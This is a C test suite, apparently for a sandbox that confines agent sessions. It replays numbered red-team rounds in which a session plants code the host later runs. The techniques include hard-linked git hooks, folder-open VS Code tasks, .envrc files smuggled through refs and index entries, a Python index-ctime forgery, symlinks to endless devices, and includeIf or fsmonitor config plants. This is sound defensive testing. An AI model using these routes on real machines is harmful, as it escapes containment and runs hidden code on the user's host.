				 "python3 -c 'import os, stat; os.mknod(\"run/app.sock\", stat.S_IFSOCK | 0o600)' && "
				 "echo done",
				 host) == 0);
	ROW(test_has(c.out, "done"), "the session could not make its FIFOs: %s", test_nz(c.err));
	expect_safe(&c, want);
	ROW(markers(&c)[0] == '\0', "the host's tools waited on the session's FIFOs: %s", markers(&c));
	ROW(exists(&c, "work/old.fifo") && !test_has(c.err, "old.fifo"),
	    "the user's own FIFO, older than the session, was moved or named: %s", test_nz(c.err));
	ROW(exists(&c, "work/run/app.sock") && !test_has(c.err, "app.sock"),
	    "a socket made in the session (dead after it) was moved or named: %s", test_nz(c.err));
	gcase_free(&c);
}

/*
 * Review of round 45: the FIFO's family through a symbolic link. A link
 * made in the session at a name the host's tools open, to a device that
 * reading never ends or waits on (ln -s /dev/zero package.json, /dev/tty
 * at .editorconfig, /dev/stdin, a relative ../../dev/full), stayed:
 * linkout.c lets a link to those devices stay (writing there does
 * nothing), check_work_odd() looked at the entry's own type only. A
 * prompt or an editor reading package.json read zeros until its memory
 * ran out; one reading .editorconfig through /dev/tty or /dev/stdin
 * waited on the user's terminal (.prettierrc -> /dev/stderr too). Now
 * moved aside; a link to /dev/null (a read ends at once), a NAME.log to
 * /dev/stdout (a log's usual link) and one the user had before stay,
 * unnamed.
 */
static void test_work_tree_device_links(void)
{
	static const char *const want[] = {"/work/package.json: ", "/work/.editorconfig: ",
					   "/work/sub/Cargo.toml: ", "/work/sub/pyproject.toml: ", "/work/.prettierrc: ",
					   NULL};
	static const char host[] =
		"cd work; [ \"$(head -c 1000000 package.json 2>/dev/null | wc -c)\" -ge 1000000 ] && touch \"$M/endless\"; "
		"for f in package.json .editorconfig sub/Cargo.toml sub/pyproject.toml; do "
		"[ -L \"$f\" ] && touch \"$M/$(echo \"$f\" | tr / -)\"; done; true";
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "ln -s /dev/zero work/old.zero", NULL, NULL,
				 "mkdir -p sub && ln -s /dev/zero package.json && ln -s /dev/tty .editorconfig && "
				 "ln -s /dev/stdin sub/Cargo.toml && ln -s ../../../../../../../../../../dev/full "
				 "sub/pyproject.toml && ln -s /dev/null .npmrc.off && ln -s /dev/stderr .prettierrc && "
				 "ln -s /dev/stdout access.log && echo done",
				 host) == 0);
	ROW(test_has(c.out, "done"), "the session could not make its links: %s", test_nz(c.err));
	expect_safe(&c, want);
	ROW(markers(&c)[0] == '\0', "the session's links to endless devices stayed: %s", markers(&c));
	ROW(exists(&c, "work/.npmrc.off") && !test_has(c.err, ".npmrc.off"),
	    "a link to /dev/null, whose read ends at once, was moved or named: %s", test_nz(c.err));
	ROW(exists(&c, "work/access.log") && !test_has(c.err, "access.log"),
	    "a log linked to /dev/stdout (a container's pattern) was moved or named: %s", test_nz(c.err));
	ROW(exists(&c, "work/old.zero") && !test_has(c.err, "old.zero"),
	    "the user's own link, older than the session, was moved or named: %s", test_nz(c.err));
	gcase_free(&c);
}

/*
 * A protected file reached through a hard link (the attacker of round 38
 * tried it, held, no test): the user's hook is a hard link of a tracked
 * scripts/pre-commit (`ln scripts/pre-commit .git/hooks/pre-commit`,
 * a common way to share hooks), and .vscode/tasks.json has a second
 * name at the top of the tree. The session writes only through the
 * other names: the row's placeholder or read-only mount covers the
 * path, not the inode. The check after the run must see the hook and
 * the settings file changed (their ctime) and move them aside, so the
 * host's next commit does not run the plant and VS Code does not read
 * the task; the tracked script keeps the change, for review.
 */
static void test_hard_links(void)
{
	static const char *const want[] = {"/work/.git/hooks/pre-commit: hook", "/work/.vscode/tasks.json: ", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "mkdir -p work/scripts work/.vscode && "
				 "printf '#!/bin/sh\\necho user-hook\\n' > work/scripts/pre-commit && "
				 "chmod +x work/scripts/pre-commit && ln work/scripts/pre-commit work/.git/hooks/pre-commit && "
				 "git -C work add scripts && git -C work commit -q -m s && "
				 "echo '{}' > work/.vscode/tasks.json && ln work/.vscode/tasks.json work/tasks-copy.json",
				 NULL, NULL,
				 "printf 'touch \"$M/hardlink-hook\"\\n' >> scripts/pre-commit && "
				 "echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > tasks-copy.json && "
				 "echo wrote",
				 GIT_USE("work") "cat work/.vscode/tasks.json 2>/dev/null") == 0);
	ROW(test_has(c.out, "wrote"), "the session could not write through the hard links: %s %s", test_nz(c.out),
	    test_nz(c.err));
	expect_safe(&c, want);
	ROW(markers(&c)[0] == '\0', "the host's commit ran the hook written through its hard link: %s", markers(&c));
	ROW(!test_has(c.host, "folderOpen"), "the tasks file written through its hard link stayed: %s",
	    test_nz(c.host));
	ROW(exists(&c, "work/.git/hooks/pre-commit.passavant-quarantine"), "the hook was not moved aside");
	gcase_free(&c);
}

/*
 * Round 38 of the attack: the hook managers' family (configs read at
 * every commit by the hook the tool's install wrote) had members the
 * rows missed: CaptainHook's captainhook.json, GrumPHP's grumphp.yml
 * (and its .dist names), rusty-hook's .rusty-hook.toml, hk's hk.pkl and
 * trunk's .trunk/trunk.yaml and user.yaml. With the user's hook in place
 * (here one that runs the config as a command, as each tool runs the
 * commands its config names), the session wrote only the config: the host's next commit ran
 * it, status 0, no line. Now each is a row (only where it exists):
 * made or changed in the session, at the top or nested, it is moved
 * aside; the user's own, left alone, stays.
 */
static void test_more_hook_managers(void)
{
	static const char *const want[] = {"/work/captainhook.json: ", "/work/grumphp.yml.dist: ",
					   "/work/.rusty-hook.toml: ", "/work/hk.pkl: ", "/work/php/grumphp.yml: ", NULL};
	/* The installed hook, as each tool's: runs what its config says at
	 * the commit (played by sh: the config is the command). */
	static const char hook[] =
		"printf '#!/bin/sh\\nfor f in captainhook.json grumphp.yml.dist .rusty-hook.toml hk.pkl "
		".trunk/trunk.yaml .trunk/user.yaml php/grumphp.yml; do [ -s $f ] && sh $f; done; exit 0\\n' "
		"> work/.git/hooks/pre-commit && chmod +x work/.git/hooks/pre-commit && mkdir -p work/old work/.trunk && "
		"echo true > work/old/captainhook.json && echo true > work/.trunk/trunk.yaml";
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, hook, NULL, NULL,
				 "mkdir -p php && for f in captainhook.json grumphp.yml.dist .rusty-hook.toml hk.pkl "
				 ".trunk/trunk.yaml .trunk/user.yaml php/grumphp.yml; do "
				 "echo 'touch \"$M\"/hm-'$(basename $f) > $f 2>/dev/null || echo \"RO $f\"; done; echo done",
				 GIT_USE("work")) == 0);
	expect_safe(&c, want);
	ROW(markers(&c)[0] == '\0', "the host's commit ran a hook manager's config the session wrote: %s", markers(&c));
	ROW(test_has(c.out, "RO .trunk/trunk.yaml") && test_has(c.out, "RO .trunk/user.yaml"),
	    "trunk's configs in an existing .trunk were writable: %s", test_nz(c.out));
	ROW(exists(&c, "work/old/captainhook.json") && !test_has(c.err, "/work/old/"),
	    "a config the session left alone was moved or named: %s", test_nz(c.err));
	gcase_free(&c);
}

/*
 * The lead of round 37 (review of round 36): an existing version file at
 * the top (.nvmrc, .python-version) is read-only in the session, and a
 * write there (`echo 22 > .nvmrc`, `pyenv local`) failed with a bare
 * "Read-only file system" that said nothing of why. One line before the
 * command names them, with what the row says runs and where to change
 * them; a project without them (or with one only nested) gets none.
 */
static void test_existing_rows_notice(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "echo 20 > work/.nvmrc && echo 3.11 > work/.python-version", NULL, NULL,
				 "echo 22 > .nvmrc 2>/dev/null || echo REFUSED", NULL) == 0);
	ROW(test_has(c.out, "REFUSED"), "the existing .nvmrc was writable: %s", test_nz(c.out));
	ROW(test_has(c.err, "read-only in the sandbox, as a tool on the host runs what each names: .python-version, "
			    ".nvmrc (mise (idiomatic version file): a path: version puts a directory on PATH)"),
	    "no line named the read-only version files and why: %s", test_nz(c.err));
	ROW(test_has(c.err, "change them on the host"), "the line did not say where to change them: %s",
	    test_nz(c.err));
	gcase_free(&c);
	CU_ASSERT_FATAL(run_case(&c, "mkdir -p work/a && echo 20 > work/a/.nvmrc", NULL, NULL, "true", NULL) == 0);
	ROW(c.status == 0 && !test_has(c.err, "read-only in the sandbox, as a tool"),
	    "a project without version files at its top got the line: %s", test_nz(c.err));
	gcase_free(&c);
}

/*
 * Round 37 of the attack (G1): settings files brought in by a ref the
 * session set. A stash stored in the session whose work tree holds
 * .vscode/tasks.json (a folder-open task) is written by the host's `git
 * stash pop`, and the untracked files of a `git stash -u` too; a branch
 * made with plumbing holding .envrc and sub/.claude/settings.json by `git
 * checkout`. The check moves these aside when the session writes them
 * in the tree; through a ref, the line named only "refs/stash (none) ->
 * X". Each such ref's line now names the settings files it brings, with
 * the row's reason; a branch bringing only code gets none.
 */
static void test_refs_bring_settings(void)
{
	static const char *const want[] = {
		"refs/heads/feature, set in the session, brings settings files", ".envrc (",
		"sub/.claude/settings.json (", "refs/stash, set in the session, brings settings files", "x/.mcp.json (",
		NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "echo 'echo hi' > /tmp/e && echo '{}' > /tmp/s && echo 'print(1)' > /tmp/p && "
				 "e=$(git hash-object -w /tmp/e) && s=$(git hash-object -w /tmp/s) && "
				 "p=$(git hash-object -w /tmp/p) && export GIT_INDEX_FILE=/tmp/i && git read-tree HEAD && "
				 "git update-index --add --cacheinfo 100644,$e,.envrc && "
				 "git update-index --add --cacheinfo 100644,$s,sub/.claude/settings.json && "
				 "t=$(git write-tree) && git update-ref refs/heads/feature $(echo f | git commit-tree $t -p HEAD) && "
				 "git read-tree HEAD && git update-index --add --cacheinfo 100644,$p,src/app.py && "
				 "t=$(git write-tree) && git update-ref refs/heads/legit $(echo l | git commit-tree $t -p HEAD) && "
				 "unset GIT_INDEX_FILE && mkdir -p x && echo '{}' > x/.mcp.json && git stash -q -u && "
				 "echo STASHED",
				 NULL) == 0);
	CU_ASSERT(test_has(c.out, "STASHED"));
	expect_safe(&c, want);
	ROW(!test_has(c.err, "refs/heads/legit, set in the session, brings"),
	    "a branch bringing only code was said to bring settings: %s", test_nz(c.err));
	gcase_free(&c);
}

/*
 * Round 38 of the attack (sandbox, G1's rest): round 37 looked at what a
 * branch or refs/stash set in the session brings, not a tag nor a
 * remote-tracking ref, and at 8 refs of a git directory at most, past
 * which nothing was said. A tag (light, annotated, annotated and packed:
 * its value "TAG^PEELED") and refs/remotes/origin/fix, each a commit
 * holding .vscode/tasks.json, are written into the tree by the host's
 * `git checkout v9` or `git switch fix` (which makes the branch from
 * origin/fix); and eight benign branches set first, sorted before it,
 * hid a ninth bringing .envrc. Each is now named, and past the bound a
 * line says how many refs were not looked at.
 */
#define R38_COMMIT                                                                                                     \
	"echo '{\"tasks\":[]}' > /tmp/t && b=$(git hash-object -w /tmp/t) && echo 'echo hi' > /tmp/e && "           \
	"e=$(git hash-object -w /tmp/e) && export GIT_INDEX_FILE=/tmp/i && git read-tree HEAD && "                     \
	"git update-index --add --cacheinfo 100644,$b,.vscode/tasks.json && t=$(git write-tree) && "                  \
	"c=$(echo f | git commit-tree $t -p HEAD) && git read-tree HEAD && "                                          \
	"git update-index --add --cacheinfo 100644,$e,.envrc && t=$(git write-tree) && "                              \
	"d=$(echo g | git commit-tree $t -p HEAD) && unset GIT_INDEX_FILE && "
static void test_tags_remotes_bring_settings(void)
{
	static const char *const want[] = {
		"refs/tags/v9, set in the session, brings settings files", "refs/tags/v10, set in the session, brings",
		"refs/tags/v11, set in the session, brings", "refs/remotes/origin/fix, set in the session, brings",
		".vscode/tasks.json (", NULL};
	static const char *const want2[] = {"refs/heads/zz, set in the session, brings settings files", ".envrc (",
					    NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 R38_COMMIT "git update-ref refs/tags/v9 $c && git tag -a -m x v11 $c && "
				 "git pack-refs --all && git tag -a -m x v10 $c && "
				 "git update-ref refs/remotes/origin/fix $c && echo SET",
				 NULL) == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	expect_safe(&c, want);
	gcase_free(&c);
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 R38_COMMIT "for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 "
				 "25 26 27 28 29 30 31 32 33 34 35 36 37 38 39 40 41 42 43 44 45 46 47 48 49 50 51 52 53 54 "
				 "55 56 57 58 59 60 61 62 63 64; do "
				 "git update-ref refs/heads/a$i $(echo $i | git commit-tree HEAD^{tree} -p HEAD) || exit 1; "
				 "done && git update-ref refs/heads/zz $d && echo SET",
				 NULL) == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	ROW(test_has(c.err, "refs/heads/zz, set in the session, brings settings files") ||
		    test_has(c.err, "not looked at for the settings files they bring"),
	    "a ref past the bound bringing .envrc was neither named nor counted: %s", test_nz(c.err));
	gcase_free(&c);
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 R38_COMMIT "for i in 1 2 3 4 5 6 7 8; do "
				 "git update-ref refs/heads/a$i $(echo $i | git commit-tree HEAD^{tree} -p HEAD) || exit 1; "
				 "done && git update-ref refs/heads/zz $d && echo SET",
				 NULL) == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	expect_safe(&c, want2);
	gcase_free(&c);
}

/*
 * Round 40 of the attack (sandbox, f1; round 39's "Not done"): the refs
 * walk skipped every ref whose last part looked like a quarantine copy,
 * by its name alone. Branches and a tag so named, loose and packed, set
 * in the session to a commit holding .vscode/tasks.json got no line; the
 * host's `git push --all` sends them and a checkout of one writes the
 * settings. Each is named now with what it brings. One made on the host
 * before the session, unchanged, gets no line.
 */
static void test_copy_named_refs(void)
{
	static const char *const want[] = {
		"refs/heads/ci.passavant-quarantine, set in the session, brings settings files",
		"refs/heads/x.passavant-quarantine.0123456789abcdef, set in the session, brings",
		"refs/tags/v9.passavant-quarantine.2, set in the session, brings",
		"refs/heads/packed.passavant-quarantine, set in the session, brings",
		"refs/heads/on.passavant-quarantine, set in the session, brings",
		".vscode/tasks.json (",
		NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "git -C work branch old.passavant-quarantine",
				 NULL, NULL,
				 R38_COMMIT "git update-ref refs/heads/ci.passavant-quarantine $c && "
				 "git update-ref refs/tags/v9.passavant-quarantine.2 $c && "
				 "git update-ref refs/heads/x.passavant-quarantine.0123456789abcdef $c && "
				 "git update-ref refs/heads/packed.passavant-quarantine $c && git pack-refs --all && "
				 "git update-ref refs/heads/on.passavant-quarantine $c && echo SET",
				 "cd work && git for-each-ref --format='%(refname)'; git checkout -q -f ci.passavant-quarantine "
				 ">/dev/null 2>&1; test -e .vscode/tasks.json && echo CHECKOUT-TASKS; true") == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	expect_safe(&c, want);
	ROW(!test_has(c.err, "old.passavant-quarantine"), "a ref made on the host before the session was named: %s",
	    test_nz(c.err));
	ROW(test_has(c.host, "refs/heads/packed.passavant-quarantine") &&
		    test_has(c.host, "refs/heads/old.passavant-quarantine") && test_has(c.host, "CHECKOUT-TASKS"),
	    "the refs were not all there or the host's checkout did not write tasks.json (test premise): %s",
	    test_nz(c.host));
	gcase_free(&c);
}

/*
 * A case (run_case()'s setup, inside and host; no policy or options)
 * whose session prints SET and whose start says each of want; marker in
 * what the host's command printed is the test's premise (premise: the
 * row's text when it is not there).
 */
static void host_brings_row(const char *setup, const char *inside, const char *host, const char *const *want,
			    const char *marker, const char *premise)
{
	struct gcase c;

	CU_ASSERT_FATAL(run_case(&c, setup, NULL, NULL, inside, host) == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	expect_safe(&c, want);
	ROW(test_has(c.host, marker), "%s: %s", premise, test_nz(c.host));
	gcase_free(&c);
}

/*
 * A case (setup, then inside, which prints SET, in the session) whose
 * start names no settings file: what, the row's text when one is named.
 */
static void quiet_row(const char *setup, const char *inside, const char *what)
{
	struct gcase c;

	CU_ASSERT_FATAL(run_case(&c, setup, NULL, NULL, inside, NULL) == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	ROW(!test_has(c.err, "settings file"), "%s: %s", what, test_nz(c.err));
	gcase_free(&c);
}

/*
 * Review of round 40 (f3's family): a session in the main work tree
 * moved a LINKED worktree's HEAD (`git update-ref --no-deref
 * worktrees/wt/HEAD C`, .git/worktrees/wt/ is the main repository's)
 * and read C into its index: no line, status 0, and the host's `git
 * restore .` in that worktree wrote .vscode/tasks.json. Named now.
 */
static void test_linked_worktree_head_brings(void)
{
	static const char *const want[] = {"worktrees/wt/HEAD, set in the session, brings settings files",
					   ".vscode/tasks.json (", "in that linked worktree", NULL};

	SKIP_IF_NEEDED();
	host_brings_row("git -C work worktree add -q ../wt 2>/dev/null && echo ok",
			R38_COMMIT "git update-ref --no-deref worktrees/wt/HEAD $c && "
				   "GIT_INDEX_FILE=.git/worktrees/wt/index git read-tree $c && echo SET",
			"cd wt && git restore . >/dev/null 2>&1; "
			"test -e .vscode/tasks.json && echo RESTORED-TASKS; true",
			want, "RESTORED-TASKS", "the host's git restore in wt did not write tasks.json (test premise)");
}

/*
 * Round 40 of the attack (sandbox, f3): HEAD moved in the session off
 * its branch (detached, or onto a new branch) to a commit holding
 * .vscode/tasks.json, the index read from it, the work tree left alone:
 * what a ref brings was measured against HEAD, now that commit, so no
 * line said it; the host's `git status` showed the file deleted and `git
 * restore .` wrote it. HEAD's line names it now. A commit on the branch
 * HEAD is on, and a new branch bringing nothing, get no HEAD line.
 */
static void test_head_moved_brings(void)
{
	static const char *const want[] = {"HEAD, set in the session, brings settings files", ".vscode/tasks.json (",
					   "git restore .", NULL};
	static const char *const moves[] = {"git update-ref --no-deref HEAD $c",
					    "git update-ref refs/heads/feature $c && git symbolic-ref HEAD refs/heads/feature"};
	char inside[4096], premise[256];
	struct gcase c;

	SKIP_IF_NEEDED();
	for (size_t i = 0; i < sizeof(moves) / sizeof(moves[0]); i++) {
		snprintf(inside, sizeof(inside), R38_COMMIT "%s && git read-tree HEAD && echo SET", moves[i]);
		snprintf(premise, sizeof(premise), "the host's git restore did not write tasks.json (test premise, %s)",
			 moves[i]);
		host_brings_row(NULL, inside,
				"cd work && git restore . >/dev/null 2>&1; "
				"test -e .vscode/tasks.json && echo RESTORED-TASKS; true",
				want, "RESTORED-TASKS", premise);
	}
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "echo x > f && git add f && git commit -q -m f && git checkout -q -b other && "
				 "echo y > g && git add g && git commit -q -m g && echo SET",
				 NULL) == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	ROW(!test_has(c.err, "HEAD, set in the session"), "HEAD moved onto a branch bringing no settings was named: %s",
	    test_nz(c.err));
	gcase_free(&c);
}

/*
 * Round 40 of the attack (sandbox, f4): entries for .vscode/tasks.json
 * and .envrc added to the index in the session (`git update-index --add
 * --cacheinfo`), the files never written: no line; the host's `git
 * status` showed "AD" and `git restore .` wrote both. Named now. A
 * settings file staged and present in the work tree gets no such line.
 */
static void test_index_stages_settings(void)
{
	static const char *const want[] = {"an index written in the session holds 2 settings files the work tree has not",
					   ".vscode/tasks.json", ".envrc", "git restore .", NULL};

	SKIP_IF_NEEDED();
	host_brings_row(NULL,
			"echo '{\"tasks\":[]}' > /tmp/t && b=$(git hash-object -w /tmp/t) && "
			"echo 'echo hi' > /tmp/e && e=$(git hash-object -w /tmp/e) && "
			"git update-index --add --cacheinfo 100644,$b,.vscode/tasks.json && "
			"git update-index --add --cacheinfo 100644,$e,.envrc && echo SET",
			"cd work && git restore . >/dev/null 2>&1; test -e .vscode/tasks.json && "
			"test -e .envrc && echo RESTORED-BOTH; true",
			want, "RESTORED-BOTH", "the host's git restore did not write both (test premise)");
	quiet_row(NULL, "echo x > f && git add f && echo SET", "an index staging no settings file was named");
}

/*
 * Round 41 (fix41g, f4's family): an index written in the session that
 * the host's `git restore .` (`git checkout -- .`, `git stash` then pop)
 * writes settings files from, where f4's line said nothing:
 *  - a LINKED worktree's index (.git/worktrees/wt/index, the worktree
 *    outside the writable tree, its HEAD left alone): the work tree was
 *    not opened (outside the root walked), so nothing was compared;
 *  - an entry below a link to a directory (`ln -s a b`, b/.envrc staged:
 *    b/.envrc was found through the link at a/.envrc; git replaces the
 *    link with a directory and writes the staged file);
 *  - an entry for a settings file the work tree holds, staged with
 *    other content (.envrc, read-only in the session: its index entry
 *    is not): git restore writes the staged content over it.
 * Each is named now; the user's own settings file staged as it is in
 * the work tree gets no line.
 */
static void test_index_stages_settings_elsewhere(void)
{
	static const char *const want_wt[] = {"settings file", ".vscode/tasks.json", "git restore .", NULL};
	static const char *const want_link[] = {"settings file", "b/.envrc", ".envrc", "git restore .", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	host_brings_row("git -C work worktree add -q ../wt 2>/dev/null && echo ok",
			"echo '{\"tasks\":[]}' > /tmp/t && b=$(git hash-object -w /tmp/t) && "
			"GIT_INDEX_FILE=.git/worktrees/wt/index git update-index --add --cacheinfo "
			"100644,$b,.vscode/tasks.json && echo SET",
			"cd wt && git restore . >/dev/null 2>&1; test -e .vscode/tasks.json && echo RESTORED-TASKS; true",
			want_wt, "RESTORED-TASKS", "the host's git restore in wt did not write tasks.json (test premise)");
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && mkdir a && echo 'echo old' > a/.envrc && echo 'echo old' > .envrc && "
				 "git add -A && git commit -q -m a && echo ok",
				 NULL, NULL,
				 "ln -s a b && e=$(printf 'echo evil\\n' | git hash-object -w --stdin) && "
				 "git update-index --add --cacheinfo 100644,$e,b/.envrc && "
				 "git update-index --cacheinfo 100644,$e,.envrc && echo SET",
				 "cd work && git restore . >/dev/null 2>&1; grep -l evil b/.envrc .envrc 2>/dev/null; true") ==
			0);
	CU_ASSERT(test_has(c.out, "SET"));
	expect_safe(&c, want_link);
	ROW(test_has(c.host, "b/.envrc") && test_has(c.host, "\n.envrc"),
	    "the host's git restore did not write both (test premise): %s", test_nz(c.host));
	gcase_free(&c);
	quiet_row("cd work && echo 'echo old' > .envrc && git add .envrc && git commit -q -m e && echo ok",
		  "git add -A && git status --short >/dev/null && echo SET",
		  "a settings file staged as the work tree holds it was named");
}

/*
 * The review of round 41 (review41c), f4's family again:
 *  - the "recorded in the session" gate was the entry's own ctime, which
 *    the session writes: .envrc (read-only in the session) staged with
 *    other content (`update-index --cacheinfo`), then the index rewritten
 *    with the file's own pre-session ctime and mtime in that entry and
 *    its checksum fixed: the content was not compared, no line, and the
 *    host's `git restore .` wrote "echo evil" over .envrc;
 *  - an index the check could not parse (a name past PATH_MAX, which git
 *    reads and writes) was left alone when gitviews.c found no work tree
 *    (a linked worktree's gitdir file rewritten by the session): no
 *    line, and `git restore .` in the worktree wrote .vscode/tasks.json
 *    before it failed on the long name;
 *  - the user's own .envrc staged in the second before the session and
 *    edited since was named (the time rule), and so was every settings
 *    file outside a sparse checkout's cone (skip-worktree, absent by
 *    design) at each session that wrote the index: no line now (the
 *    index's settings entries at the start are read by the walk before
 *    the session; one held so then is the user's).
 */
#define FORGE_CTIME                                                                                        \
	"python3 - <<'EOF' && echo SET\n"                                                                  \
	"import hashlib, os, struct\n"                                                                     \
	"b = bytearray(open('.git/index', 'rb').read())\n"                                                 \
	"off = 12\n"                                                                                       \
	"for i in range(struct.unpack('>I', b[8:12])[0]):\n"                                               \
	"    fl = struct.unpack('>H', b[off + 60:off + 62])[0]\n"                                          \
	"    at = off + 62 + (2 if fl & 0x4000 else 0)\n"                                                  \
	"    end = b.index(0, at)\n"                                                                       \
	"    if bytes(b[at:end]) == b'.envrc':\n"                                                          \
	"        struct.pack_into('>IIII', b, off, 1600000000, 0, 1600000000, 0)\n"                        \
	"    off += (end - off + 8) & ~7\n"                                                                \
	"b[-20:] = hashlib.sha1(b[:-20]).digest()\n"                                                       \
	"open('.git/index', 'wb').write(b)\n"                                                              \
	"EOF\n"

static void test_index_stages_settings_forged(void)
{
	static const char *const want_forged[] = {"settings file", ".envrc", "git restore .", NULL};
	static const char *const want_long[] = {"worktrees/wt/index", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	host_brings_row("cd work && echo 'echo old' > .envrc && git add .envrc && git commit -q -m e && echo ok",
			"e=$(printf 'echo evil\\n' | git hash-object -w --stdin) && "
			"git update-index --cacheinfo 100644,$e,.envrc && " FORGE_CTIME,
			"cd work && git restore . >/dev/null 2>&1; grep -l evil .envrc 2>/dev/null; true", want_forged,
			".envrc", "the host's git restore did not write .envrc (test premise)");
	CU_ASSERT_FATAL(run_case(&c, "git -C work worktree add -q ../wt 2>/dev/null && echo ok", NULL, NULL,
				 "t=$(echo '{}' | git hash-object -w --stdin) && "
				 "long=$(python3 -c \"print('/'.join(['d' * 200] * 25))\") && "
				 "GIT_INDEX_FILE=.git/worktrees/wt/index git update-index --add --cacheinfo "
				 "100644,$t,.vscode/tasks.json && "
				 "GIT_INDEX_FILE=.git/worktrees/wt/index git update-index --add --cacheinfo 100644,$t,$long && "
				 "echo elsewhere > .git/worktrees/wt/gitdir && echo SET",
				 "cd wt && git restore . >/dev/null 2>&1; "
				 "test -e .vscode/tasks.json && echo RESTORED-TASKS; true") == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	expect_safe(&c, want_long);
	ROW(!test_has(c.host, "RESTORED-TASKS"), "the host's git restore in wt wrote tasks.json: %s", test_nz(c.host));
	gcase_free(&c);
	/* the linked worktree's gitdir file pointed at a directory the
	 * session made whose .git file points back, holding the staged
	 * content: compared with that one, not the worktree git runs in */
	CU_ASSERT_FATAL(run_case(&c, "git -C work worktree add -q ../wt 2>/dev/null && echo ok", NULL, NULL,
				 "mkdir -p fake/.vscode && echo '{\"tasks\":[]}' > fake/.vscode/tasks.json && "
				 "t=$(git hash-object -w fake/.vscode/tasks.json) && "
				 "echo \"gitdir: $PWD/.git/worktrees/wt\" > fake/.git && "
				 "echo \"$PWD/fake/.git\" > .git/worktrees/wt/gitdir && "
				 "GIT_INDEX_FILE=.git/worktrees/wt/index git update-index --add --cacheinfo "
				 "100644,$t,.vscode/tasks.json && echo SET",
				 "cd wt && git restore . >/dev/null 2>&1; "
				 "test -e .vscode/tasks.json && echo RESTORED-TASKS; true") == 0);
	CU_ASSERT(test_has(c.out, "SET"));
	ROW(!test_has(c.host, "RESTORED-TASKS") || test_has(c.err, "as staged (missing, below a link, or other content: "
								   ".vscode/tasks.json"),
	    "the host's git restore in wt wrote tasks.json, no line named it: %s", test_nz(c.err));
	gcase_free(&c);
	quiet_row("cd work && echo 'echo a' > .envrc && git add .envrc && git commit -q -m e && "
		  "echo 'echo staged' > .envrc && git add .envrc && echo 'echo edited' > .envrc && echo ok",
		  "echo x > f && git add f && echo SET", "the user's own staged .envrc (edited since) was named");
	/* a sparse checkout: the settings files outside its cone are
	 * skip-worktree entries absent by design, held so at the start */
	quiet_row("cd work && mkdir -p a svc/.vscode && echo x > a/f && echo '{}' > svc/.vscode/settings.json && "
		  "echo 'echo hi' > svc/.envrc && git add -A && git commit -q -m s && git sparse-checkout set a && "
		  "test ! -e svc && echo ok",
		  "echo y > a/g && git add a/g && echo SET", "a sparse checkout's settings files outside its cone were named");
}

/*
 * Round 41 (fix41g): settings that make git run a program, each named in
 * another file git reads for the repository: config.worktree (with
 * extensions.worktreeConfig), a file inside the tree named by a relative
 * include.path, by includeIf "onbranch:" and by includeIf "gitdir:", and
 * the repository's config. The host's own commands after the run
 * (status, a fetch over ssh, diff, credential approve, add) run none of
 * them. Held before this round: a test that it stays so.
 */
static void test_program_settings_any_file(void)
{
	static const struct {
		const char *setup, *inside, *host;
	} cases[] = {
		/* a repository made in the session: config.worktree */
		{NULL,
		 "git init -q sub && git -C sub config extensions.worktreeConfig true && "
		 "printf '[core]\n\tfsmonitor = " PLANT("wt-fsmonitor") "\n' > sub/.git/config.worktree && echo SET",
		 GIT_USE("work/sub")},
		/* the user's config includes a file of the tree (relative) */
		{"cd work && echo '[user]' > inc.cfg && git config include.path ../inc.cfg && echo ok",
		 "printf '[core]\n\tsshCommand = " PLANT("inc-ssh") "\n' > inc.cfg; "
		 "printf '[core]\n\tsshCommand = " PLANT("inc-ssh") "\n' > inc.new && mv -f inc.new inc.cfg; echo SET",
		 "GIT_TERMINAL_PROMPT=0 timeout 20 git -C work ls-remote ssh://example.invalid/r >/dev/null 2>&1; "
		 "true"},
		/* includeIf onbranch: a file missing at the start */
		{"cd work && echo x > f && git add f && git commit -q -m f && "
		 "git config 'includeIf.onbranch:**.path' ../sub.cfg && echo ok",
		 "printf '[diff]\n\texternal = " PLANT("onbranch-diff") "\n' > sub.cfg && echo SET",
		 "echo y > work/f && git -C work diff >/dev/null 2>&1; git -C work diff HEAD >/dev/null 2>&1; true"},
		/* includeIf gitdir: a file missing at the start */
		{"cd work && git config 'includeIf.gitdir:/.path' ../c.cfg && echo ok",
		 "printf '[credential]\n\thelper = !" PLANT("gitdir-cred") "\n' > c.cfg && echo SET",
		 "printf 'protocol=https\nhost=example.invalid\nusername=u\npassword=p\n\n' | "
		 "git -C work credential approve >/dev/null 2>&1; true"},
		/* a repository made in the session, its own linked worktree
		 * with a config.worktree */
		{NULL,
		 "git init -q r && git -C r commit -q --allow-empty -m r && git -C r worktree add -q ../rwt && "
		 "git -C r config extensions.worktreeConfig true && "
		 "printf '[core]\n\tfsmonitor = " PLANT("linked-fsmonitor") "\n' > r/.git/worktrees/rwt/config.worktree && "
		 "echo SET",
		 GIT_USE("work/rwt")},
